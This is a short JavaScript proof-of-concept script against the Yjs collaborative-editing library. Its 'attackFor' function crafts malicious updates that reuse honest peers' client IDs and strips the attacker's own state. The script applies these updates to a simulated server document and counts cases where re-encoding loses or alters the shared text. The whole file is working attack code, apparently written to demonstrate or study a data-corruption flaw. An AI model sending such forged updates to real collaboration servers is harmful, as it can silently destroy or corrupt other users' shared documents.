import * as Y from 'yjs';
function encodeVar(n){const out=[];while(n>127){out.push((n&127)|128);n=Math.floor(n/128);}out.push(n);return out;}
function attackFor(ids, lens, ghost) {
  const att = new Y.Doc(); att.clientID = ghost;
  const nested = new Y.Text(); att.getMap('zz').set('k', nested);
  for (let i = 0; i < ids.length; i++) { att.clientID = ids[i]; nested.insert(0, 'x'.repeat(lens[i])); }
  return Y.diffUpdate(Y.encodeStateAsUpdate(att), new Uint8Array([1, ...encodeVar(ghost), 1]));
}
let lost = 0;
for (const scenario of [
  (C, D) => [[C], [1]], (C, D) => [[C], [30]], (C, D) => [[C, D], [1, 1]], (C,D)=>[[D,C],[1,1]], (C,D)=>[[C, 5],[1,1]], (C,D)=>[[C, 2**31],[1,1]], (C,D)=>[[C, 1],[3,1]],
]) {
  for (let run = 0; run < 20; run++) {
    const server = new Y.Doc();
    const a = new Y.Doc(), b = new Y.Doc();
    a.getText('t').insert(0, 'hello '); Y.applyUpdate(b, Y.encodeStateAsUpdate(a)); b.getText('t').insert(6, 'world'); a.getText('t').insert(0,'>');
    Y.applyUpdate(server, Y.encodeStateAsUpdate(a)); Y.applyUpdate(server, Y.encodeStateAsUpdate(b));
    const [ids, lens] = scenario(a.clientID, b.clientID);
    const attack = attackFor(ids, lens, 77);
    Y.applyUpdate(server, attack);
    const fresh = new Y.Doc(); Y.applyUpdate(fresh, Y.encodeStateAsUpdate(server));
    if (fresh.getText('t').toString() !== server.getText('t').toString()) { lost++; if (run === 0 || true) { console.log(scenario.toString(), attack.byteLength, JSON.stringify(server.getText('t').toString()), '->', JSON.stringify(fresh.getText('t').toString())); break; } }
  }
}
console.log('lost', lost);
